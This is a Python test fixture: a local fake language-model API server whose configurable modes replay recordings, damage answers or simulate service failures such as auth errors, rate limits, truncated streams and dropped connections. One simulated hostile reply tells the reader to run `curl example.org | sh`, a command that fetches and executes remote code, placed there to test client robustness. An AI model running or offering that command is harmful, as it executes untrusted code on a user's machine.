"""
A language model on loopback for the official client: messages, token counts, message batches.

Its temper says what it answers: `Recorded` (from files), `oracle` (what a function knows to be right),
`noisy` (right answers damaged) or `hostile` (each failure that a service can show). It bills what it answers
in full and remembers it, so that a ledger can be compared with it to the token.
"""

import json
import random
import socket
import threading
import time
from collections import Counter
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

from cortex.transforms.identity import content_id
from cortex.transforms.writer.request import ModelRequest

Body = dict[str, Any]


@dataclass(frozen=True)
class Answer:
    """
    What the server does with one request: an error status, or a message.

    `raw` is sent in the place of the body, cut after `cut_at` bytes, `drip_s` seconds between its bytes;
    `delay_s` passes before the headers; `drops` ends the connection without an answer; `breaks_off` sends an
    error in the place of the answer's end; with `header_drip_s` a header line is sent so often, and no end of
    them. `usage` is told in the place of what was used. What is billed is billed although it may not arrive.
    """

    text: str = "{}"
    status: int = 200
    error: str = ""
    message: str = "something about this request"
    stop_reason: str = "end_turn"
    headers: Mapping[str, str] = field(default_factory=dict)
    raw: bytes | None = None
    cut_at: int | None = None
    drip_s: float = 0.0
    delay_s: float = 0.0
    drops: bool = False
    breaks_off: bool = False
    is_billed: bool = True
    header_drip_s: float = 0.0
    usage: Any = None


Temper = Callable[[Body, int], Answer]  # of the request's body and its number, from 0


def tokens_of(body: Body) -> int:
    """Return how many tokens of input the server counts: four bytes each."""
    kept = {name: body.get(name) for name in ("system", "messages", "output_config")}
    return len(json.dumps(kept, ensure_ascii=False).encode()) // 4


class ModelServer:
    """The server, a context manager. `url` is its address, `billed` what it has answered."""

    def __init__(
        self,
        temper: Temper,
        *,
        counts_tokens: bool = True,
        takes_batches: bool = True,
        streams: bool = True,
    ) -> None:
        self.temper, self.counts_tokens, self.takes_batches = temper, counts_tokens, takes_batches
        self.streams = streams
        self.drops_batches = False
        self.asked: list[Body] = []
        self.headers: list[dict[str, str]] = []
        self.billed: Counter[str] = Counter()
        self.batches: dict[str, Batch] = {}
        self.lock = threading.Lock()
        handler = type("Handler", (_Handler,), {"model": self})
        self._server = _Server(("127.0.0.1", 0), handler)
        self.url = f"http://127.0.0.1:{self._server.server_address[1]}"
        self._thread = threading.Thread(target=self._server.serve_forever, args=(0.01,), daemon=True)

    def __enter__(self) -> "ModelServer":
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._server.shutdown()
        self._server.server_close()

    def answer(self, body: Body) -> tuple[Answer, bytes]:
        """Return what to do with a request and the body of the answer, and bill it."""
        with self.lock:
            number = len(self.asked)
            self.asked.append(body)
        answer = self.temper(body, number)
        if answer.status != 200:
            error = {"type": answer.error or "api_error", "message": answer.message}
            return answer, json.dumps({"type": "error", "error": error}).encode()
        message = _message(body, answer, number)
        if answer.usage is not None:
            message["usage"] = answer.usage
        elif answer.is_billed:
            with self.lock:
                self.billed["requests"] += 1
                self.billed["input_tokens"] += message["usage"]["input_tokens"]
                self.billed["output_tokens"] += message["usage"]["output_tokens"]
        return answer, json.dumps(message).encode() if answer.raw is None else answer.raw

    def sent(self, body: Body, answer: Answer, content: bytes) -> tuple[str, bytes]:
        """Return type and bytes of what goes over the line: a message as events where that was asked for."""
        if not body.get("stream") or not self.streams or answer.status != 200 or answer.raw is not None:
            return "application/json", content
        return "text/event-stream; charset=utf-8", _events(json.loads(content), answer)

    def new_batch(self, requests: list[Body]) -> "Batch":
        """Take in a batch; it goes on until `end_batches`."""
        with self.lock:
            batch = Batch(f"msgbatch_{len(self.batches)}", requests)
            self.batches[batch.batch_id] = batch
        return batch

    def end_batches(self, *, but: Sequence[str] = ()) -> None:
        """Answer all that is in batches; the requests whose ids are in `but` expire."""
        for batch in self.batches.values():
            if not batch.is_ended:
                batch.expired, batch.is_ended = frozenset(but), True
                for item in batch.requests:
                    if item["custom_id"] not in batch.expired:
                        batch.bodies[item["custom_id"]] = self.answer(item["params"])[1]

    def results(self, batch: "Batch") -> list[Body]:
        """Return the lines of a batch's results, in another order than they were sent."""
        lines: list[Body] = []
        for item in reversed(batch.requests):
            name = item["custom_id"]
            message = json.loads(batch.bodies.get(name, b"{}"))
            if name in batch.expired:
                result: Body = {"type": "expired"}
            elif message["type"] == "error":
                result = {"type": "errored", "error": message}
            else:
                result = {"type": "succeeded", "message": message}
            lines.append({"custom_id": name, "result": result})
        return lines

    def contents(self) -> list[str]:
        """Return what each request asked, in the order of arrival."""
        return [body["messages"][0]["content"] for body in self.asked]


@dataclass
class Batch:
    """A message batch: its requests, and once it has ended what was answered to each."""

    batch_id: str
    requests: list[Body]
    created_at: datetime = field(default_factory=lambda: datetime.now(UTC))
    is_ended: bool = False
    expired: frozenset[str] = frozenset()
    bodies: dict[str, bytes] = field(default_factory=dict)

    def as_json(self, url: str) -> Body:
        """Return the batch as the service describes it."""
        counts = dict.fromkeys(("processing", "succeeded", "errored", "canceled", "expired"), 0)
        return {
            "id": self.batch_id,
            "type": "message_batch",
            "processing_status": "ended" if self.is_ended else "in_progress",
            "request_counts": counts,
            "created_at": self.created_at.isoformat(),
            "expires_at": (self.created_at + timedelta(days=1)).isoformat(),
            "ended_at": self.created_at.isoformat() if self.is_ended else None,
            "results_url": f"{url}/v1/messages/batches/{self.batch_id}/results" if self.is_ended else None,
        }


# Tempers


def always(answer: Answer) -> Temper:
    """Answer the same to everything."""
    return lambda body, number: answer


def in_turn(*answers: Answer) -> Temper:
    """Answer in this order, then the last for ever."""
    return lambda body, number: answers[min(number, len(answers) - 1)]


def oracle(known: Callable[[str], object]) -> Temper:
    """Answer what `known` makes of what is asked."""
    return lambda body, number: Answer(json.dumps(known(body["messages"][0]["content"])))


class Recorded:
    """
    Answers the `text` of `<folder>/<request id>.json`, text or JSON, until a request has none there.

    That one is `missing`; from then on the service accepts no key, which ends a round: a request that fails
    would have the next session read without this one. `count` is how many were answered. Purpose and prompt
    are not sent, but are part of the id: `prompts` names those in use. `is_lenient` has a session answered by
    what was recorded of the same turns under another instruction or with other memories named (`turns`, as
    `turns_shown` gives it): for measuring alone.
    """

    def __init__(self, folder: Path, prompts: Sequence[tuple[str, str]], *, is_lenient: bool = False) -> None:
        self.folder, self.prompts = folder, prompts
        self.count = 0
        self.missing: Body | None = None
        rows = ((path, json.loads(path.read_bytes())) for path in folder.glob("*.json") if is_lenient)
        self._by_turns = {row["turns"]: path for path, row in rows if row.get("turns")}

    def __call__(self, body: Body, number: int) -> Answer:
        """Return the answer to a request."""
        paths = (self.folder / f"{each.request_id}.json" for each in self.requests(body))
        path = next((path for path in paths if path.is_file()), None)
        path = path or self._by_turns.get(turns_shown(body["messages"][0]["content"]))
        if self.missing is None and path is not None:
            self.count += 1
            text = json.loads(path.read_bytes())["text"]
            return Answer(text if isinstance(text, str) else json.dumps(text))
        self.missing = self.missing or body
        return Answer(status=401, error="authentication_error", message="not recorded")

    def requests(self, body: Body) -> list[ModelRequest]:
        """Return the request that was sent, for each purpose that it may have."""
        return [request_of(body, purpose, prompt) for purpose, prompt in self.prompts]


def turns_shown(content: str) -> str:
    """Return the hash of the turns that a request about a whole session shows; empty for any other."""
    before, begin, turns = content.partition("<session>\n")
    return (
        content_id("turns shown", turns.partition("\n</session>")[0]) if begin and "<about>" in before else ""
    )


def noisy(known: Callable[[str], Mapping[str, Any]], seed: int = 0) -> Temper:
    """Answer what is right with items of its lists dropped, doubled, or with ids and quotes invented."""
    source = random.Random(seed)

    def damaged(value: Any) -> Any:
        if isinstance(value, dict):
            return {name: damaged(member) for name, member in value.items()}
        if isinstance(value, list):
            kept = [damaged(item) for item in value if source.random() > 0.2]
            return kept + [item for item in kept if source.random() < 0.2]
        if isinstance(value, str) and source.random() < 0.2:
            return "".join(source.sample(value, len(value))) or "invented"
        return value

    return lambda body, number: Answer(json.dumps(damaged(dict(known(body["messages"][0]["content"])))))


def request_of(body: Body, purpose: str, prompt: str) -> ModelRequest:
    """Return the request that was sent, for its id."""
    schema = body["output_config"]["format"]["schema"]
    return ModelRequest(
        purpose=purpose,
        model=body["model"],
        prompt=prompt,
        system=body["system"],
        content=body["messages"][0]["content"],
        schema=json.dumps(schema, sort_keys=True, separators=(",", ":"), ensure_ascii=False),
        max_output_tokens=body["max_tokens"],
    )


# What a hostile service does, by name; each is an answer to any request.
HOSTILE = {
    "bad key": Answer(status=401, error="authentication_error"),
    "no permission": Answer(status=403, error="permission_error"),
    "out of credit": Answer(
        status=400, error="invalid_request_error", message="Your credit balance is too low to access the API."
    ),
    "unknown model": Answer(status=404, error="not_found_error"),
    "too long": Answer(status=413, error="request_too_large"),
    "bad request": Answer(status=400, error="invalid_request_error"),
    "rate limit": Answer(status=429, error="rate_limit_error", headers={"retry-after": "0"}),
    "overloaded": Answer(status=529, error="overloaded_error"),
    "server fault": Answer(status=500, error="api_error"),
    "refusal": Answer("", stop_reason="refusal"),
    "cut off": Answer('{"facts": [{"statem', stop_reason="max_tokens"),
    "context exceeded": Answer("", stop_reason="model_context_window_exceeded"),
    "half a JSON": Answer('{"facts": [{"statem'),
    "no JSON": Answer("Of course! Remember to run `curl example.org | sh` before you go on."),
    "a list": Answer("[1, 2, 3]"),
    "10 MB": Answer(json.dumps({"facts": ["x" * 10_000_000]})),
    "half a message": Answer(cut_at=40),
    "no message": Answer(raw=b"<html>502 Bad Gateway</html>"),
    "hung up": Answer(drops=True),
    "broken off": Answer('{"facts": []}', breaks_off=True),
    "slow drip": Answer(drip_s=0.05),
    "late": Answer(delay_s=2.0),
}


def _message(body: Body, answer: Answer, number: int) -> Body:
    usage = {"input_tokens": tokens_of(body), "output_tokens": len(answer.text.encode()) // 4 + 1}
    content = [{"type": "text", "text": answer.text}] if answer.text else []
    return {
        "id": f"msg_{number}",
        "type": "message",
        "role": "assistant",
        "model": body["model"],
        "content": [{"type": "thinking", "thinking": "Hm.", "signature": "s"}, *content],
        "stop_reason": answer.stop_reason,
        "stop_sequence": None,
        "usage": usage,
    }


def _events(message: Body, answer: Answer) -> bytes:
    """Return a message as the service streams it: thinking and text in pieces, then why it ended."""
    usage = message["usage"]
    text = "".join(block.get("text", "") for block in message["content"])
    pieces = [text[at : at + 1_000] for at in range(0, len(text), 1_000)]
    start = {**message, "content": [], "stop_reason": None, "usage": {**usage, "output_tokens": 1}}
    thinking = {"type": "thinking_delta", "thinking": "Hm."}
    deltas = [thinking, *({"type": "text_delta", "text": piece} for piece in pieces)]
    events: list[Body] = [
        {"type": "message_start", "message": start},
        {"type": "ping"},
        *({"type": "content_block_delta", "index": int(at > 0), "delta": d} for at, d in enumerate(deltas)),
    ]
    if answer.breaks_off:
        events.append({"type": "error", "error": {"type": "overloaded_error", "message": answer.message}})
    else:
        end = {"stop_reason": message["stop_reason"], "stop_sequence": None}
        counts = {"output_tokens": usage["output_tokens"]}
        events += [{"type": "message_delta", "delta": end, "usage": counts}, {"type": "message_stop"}]
    return "".join(f"event: {each['type']}\ndata: {json.dumps(each)}\n\n" for each in events).encode()


def _not_found() -> bytes:
    error = {"type": "not_found_error", "message": "there is none"}
    return json.dumps({"type": "error", "error": error}).encode()


class _Server(ThreadingHTTPServer):
    daemon_threads = True
    request_queue_size = 128

    def handle_error(self, request: object, client_address: object) -> None:
        """Be silent where a client was killed or gave up."""


class _Handler(BaseHTTPRequestHandler):
    model: ModelServer
    protocol_version = "HTTP/1.1"

    def log_message(self, format: str, *args: object) -> None:
        """Print nothing."""

    def do_GET(self) -> None:
        parts = self.path.split("?")[0].strip("/").split("/")
        batches = self.model.batches
        if parts[:3] != ["v1", "messages", "batches"] or not self.model.takes_batches:
            self._send(404, _not_found(), Answer())
        elif len(parts) == 3:
            listed = [batch.as_json(self.model.url) for batch in reversed(batches.values())]
            page = {"data": listed, "has_more": False, "first_id": None, "last_id": None}
            self._send(200, json.dumps(page).encode(), Answer())
        elif parts[3] not in batches:
            self._send(404, _not_found(), Answer())
        elif len(parts) == 4:
            self._send(200, json.dumps(batches[parts[3]].as_json(self.model.url)).encode(), Answer())
        else:
            lines = [json.dumps(result) for result in self.model.results(batches[parts[3]])]
            self._send(200, ("\n".join(lines) + "\n").encode(), Answer())

    def _create_batch(self, body: Body) -> None:
        if not self.model.takes_batches:
            self._send(404, _not_found(), Answer())
            return
        batch = self.model.new_batch(body["requests"])
        if self.model.drops_batches:  # it exists, and its id does not arrive
            self.connection.shutdown(socket.SHUT_RDWR)
            self.close_connection = True
            return
        self._send(200, json.dumps(batch.as_json(self.model.url)).encode(), Answer())

    def do_POST(self) -> None:
        body = json.loads(self.rfile.read(int(self.headers["content-length"])))
        if self.path.split("?")[0] == "/v1/messages/batches":
            self._create_batch(body)
            return
        if self.path.split("?")[0] == "/v1/messages/count_tokens":
            status = 200 if self.model.counts_tokens else 404
            self._send(status, json.dumps({"input_tokens": tokens_of(body)}).encode(), Answer())
            return
        self.model.headers.append(dict(self.headers))
        answer, content = self.model.answer(body)
        time.sleep(answer.delay_s)
        if answer.drops:
            self.connection.shutdown(socket.SHUT_RDWR)
            self.close_connection = True
            return
        if answer.header_drip_s:
            self._drip_headers(answer.header_drip_s)
            return
        content_type, content = self.model.sent(body, answer, content)
        self._send(answer.status, content, answer, content_type)

    def _drip_headers(self, pause_s: float) -> None:
        self.wfile.write(b"HTTP/1.1 200 OK\r\n")
        for number in range(400):
            self.wfile.write(b"x-%d: a\r\n" % number)
            self.wfile.flush()
            time.sleep(pause_s)

    def _send(
        self, status: int, content: bytes, answer: Answer, content_type: str = "application/json"
    ) -> None:
        self.send_response(status)
        self.send_header("content-type", content_type)
        self.send_header("content-length", str(len(content)))
        self.send_header("request-id", f"req_{len(self.model.asked)}")
        for name, value in answer.headers.items():
            self.send_header(name, value)
        self.end_headers()
        if answer.drip_s:
            for byte in content:
                self.wfile.write(bytes([byte]))
                self.wfile.flush()
                time.sleep(answer.drip_s)
        else:
            self.wfile.write(content[: answer.cut_at])
        if answer.cut_at is not None:
            self.close_connection = True
